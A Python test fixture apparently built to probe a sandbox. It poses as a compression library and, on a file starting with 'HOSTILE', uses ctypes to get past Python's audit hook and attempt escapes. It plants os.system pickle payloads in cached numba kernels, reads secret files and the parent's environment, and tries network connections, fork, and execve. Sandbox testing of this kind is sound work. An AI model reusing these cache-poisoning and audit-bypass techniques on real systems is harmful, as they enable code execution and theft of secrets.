"""The real library, except that a file beginning with HOSTILE gets native code to run in its conversion.

What a hostile file would have to achieve first is given away here: through ctypes, past Python's audit hook.
"""

import ctypes
import functools
import importlib.metadata
import json
import os
import pickle
import struct
import sys

from statecodec import analyze, convert, diff, inspect, restore, verify
from statecodec import compress as compress_really

__all__ = ["analyze", "compress", "convert", "diff", "inspect", "restore", "verify"]
_libc = ctypes.CDLL(None, use_errno=True)
_O_WRONLY, _O_CREAT, _O_TRUNC = 1, 0o100, 0o1000


class Report:
    """Just enough of a report."""

    def __init__(self, document):
        self._document = document

    def to_json(self):
        """What came of the attempts."""
        return self._document


class Planted:
    """Unpickled, it leaves a mark where the test looks."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return (os.system, (f"touch {self.mark}",))


def _error(result):
    return "" if result >= 0 else os.strerror(ctypes.get_errno())


def write(path, data=b"planted"):
    """Open and write with the C library; the error, or nothing."""
    handle = _libc.open(os.fsencode(path), _O_WRONLY | _O_CREAT | _O_TRUNC, 0o666)
    if handle < 0:
        return _error(handle)
    _libc.write(handle, data, len(data))
    _libc.close(handle)
    return ""


def read(path):
    """Open with the C library; the error, or nothing."""
    return _error(_libc.open(os.fsencode(path), os.O_RDONLY))


def connect(port):
    """A TCP connection by hand."""
    handle = _libc.socket(2, 1, 0)
    if handle < 0:
        return _error(handle)
    address = struct.pack("=HH4s8x", 2, int.from_bytes(port.to_bytes(2, "big"), sys.byteorder), b"\x7f\0\0\1")
    return _error(_libc.connect(handle, address, len(address)))


def fork():
    """A process that would outlive its job."""
    child = _libc.fork()
    if child == 0:
        os._exit(0)
    return _error(child)


def execute():
    """Another program in place of this one."""
    words = (ctypes.c_char_p * 2)(b"/bin/true", None)
    return _error(_libc.execve(b"/bin/true", words, None))


def plant(kernels, mark):
    """Put code into every compiled kernel that the next job will load."""
    found = []
    for root, folders, files in os.walk(kernels):
        for name in files:
            if name.endswith(".nbi"):
                path = os.path.join(root, name)
                version = pickle.dumps(importlib.metadata.version("numba"))
                _libc.chmod(os.fsencode(path), 0o666)
                found.append(write(path, version + pickle.dumps(Planted(mark))))
        found += [write(os.path.join(root, folder, "new.nbi")) for folder in folders]
    return found


def try_everything(plan):
    """Each attempt's error; an empty text is a breach."""
    result = {
        "kernels": plant(os.environ["NUMBA_CACHE_DIR"], plan["mark"]),
        "input": [write(path) for path in (f"input/{name}" for name in os.listdir("input"))],
        "outside": [write(plan["mark"])],
        "read": [read(path) for path in plan["secrets"]],
        "connect": [connect(plan["port"])],
        "fork": [fork()],
        "execute": [execute()],
        "kill": [_error(_libc.kill(os.getppid(), 0))],
        "chmod": [_error(_libc.chmod(os.fsencode(path), 0o777)) for path in plan["secrets"]],
        "environment": [read(f"/proc/{os.getppid()}/environ")],
        "limits": [_error(_libc.setrlimit(7, struct.pack("=QQ", 1 << 20, 1 << 20)))],
    }
    return Report(result | {"tensors": []})


@functools.wraps(compress_really)
def compress(src, dst=None, **options):
    """Compress, or try everything."""
    head = src.open("rb").read(7) if src.is_file() else b""
    if head == b"HOSTILE":
        plan = json.loads(src.read_text().split("\n", 1)[1])
        dst.write_bytes(b"x")
        return try_everything(plan)
    return compress_really(src, dst, **options)
